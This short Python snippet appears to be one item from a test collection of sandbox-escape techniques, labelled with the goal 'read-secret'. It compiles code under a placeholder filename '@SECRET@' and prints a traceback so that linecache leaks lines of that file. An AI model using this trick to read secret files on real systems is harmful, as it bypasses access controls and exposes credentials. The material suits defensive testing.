# technique: traceback.format_exc reads the line by linecache
# goal: read-secret
# source: source lines in tracebacks
import traceback
try:
    exec(compile('1 / 0', '@SECRET@', 'exec'))
except ZeroDivisionError:
    print(traceback.format_exc())
